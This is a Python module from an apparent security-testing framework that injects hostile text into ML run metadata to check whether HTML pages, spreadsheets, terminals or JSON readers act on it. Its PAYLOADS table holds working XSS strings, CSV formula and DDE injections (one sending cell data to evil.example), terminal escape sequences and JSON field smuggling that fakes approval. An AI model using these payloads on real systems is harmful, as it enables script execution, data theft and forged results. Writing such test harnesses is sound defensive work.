"""Write text into metadata that its next reader acts on: see `InjectMetadata`."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from random import Random
from typing import ClassVar, Protocol

from hauberk.core.attack import Play, Transcript
from hauberk.core.threat import ThreatId
from hauberk.errors import UsageError


class Reader(Protocol):
    """A metadata store's output, and who reads it."""

    def acts(self, sink: str, text: str) -> bool:
        """Whether the reader of ``sink`` does more with an entry of that text than show it."""
        ...


@dataclass(frozen=True, slots=True, kw_only=True)
class InjectMetadata(Play[Reader]):
    """Name a run, or note of it, what a page, spreadsheet or terminal takes for its own.

    Args:
        sink: Which of `PAYLOADS`; by default the random generator picks one.

    References:
        MITRE ATLAS AML.T0077; CWE-79, CWE-116, CWE-150, CWE-1236; CVE-2023-6568 and
        CVE-2024-27132, script in the names that a tracking server shows.
    """

    title: ClassVar[str] = "Inject active text into run metadata"
    threats: ClassVar[tuple[ThreatId, ...]] = (ThreatId("MS-4"),)
    subject: ClassVar[type] = object

    sink: str | None = None

    def play(self, target: Reader, rng: Random) -> Transcript:
        """One payload in one renderer.

        Raises:
            UsageError: There is no such sink.
        """
        sink = self.sink or rng.choice(tuple(PAYLOADS))
        if sink not in PAYLOADS:
            raise UsageError(f"there is no sink {sink!r}", expected=" ".join(PAYLOADS))
        text = _wrapped(rng.choice(PAYLOADS[sink]), rng)
        return Transcript(succeeded=target.acts(sink, text), queries=1, facts={"sink": sink})


def _wrapped(payload: str, rng: Random) -> str:
    """As it is, padded, or with letters of another case."""
    way = rng.randrange(4)
    if way == 0:
        return f" {payload}"
    if way == 1:
        return f"{payload} baseline run {rng.randrange(100)}"
    return payload.swapcase() if way == 2 and "\\" not in payload else payload  # noqa: PLR2004


PAYLOADS: Mapping[str, tuple[str, ...]] = {
    "html": (
        "<script>fetch('//evil.example')</script>",
        "<img src=x onerror=alert(1)>",
        "</td></tr></table><iframe src=//evil.example>",
        "</title><svg/onload=alert(1)>",
        "<a href=javascript:alert(1)>open</a>",
        "<style>@import'//evil.example'</style>",
        "--><script>1</script><!--",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<base href=//evil.example/>",
        "{{constructor.constructor('alert(1)')()}}<b>",
    ),
    "csv": (
        "=cmd|'/c calc'!A1",
        '=HYPERLINK("https://evil.example?"&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        'x","=1+1',
        "x\r\n=1+1,y",
        "\t=1+1",
        "\uff1d1+1",
    ),
    "terminal": (
        "\x1b]0;owned\x07",
        "\x1b[2J\x1b[Happroved",
        "\x1b]52;c;b3duZWQ=\x07",
        "\x1b]8;;https://evil.example\x1b\\log\x1b]8;;\x1b\\",
        "\x9b31mred",
        "accuracy 0.71\raccuracy 0.93",
        "0.71\x08\x08\x08\x0893",
    ),
    "json": (
        '", "approved": true, "x": "',
        "\\u0022,\\u0022approved\\u0022:true",
        '"}]} {"notes": [{"name": "approved"',
        '0.71", "value": 0.93, "x": "',
        "\\",
    ),
}
"""Sink to texts that a careless renderer lets act."""
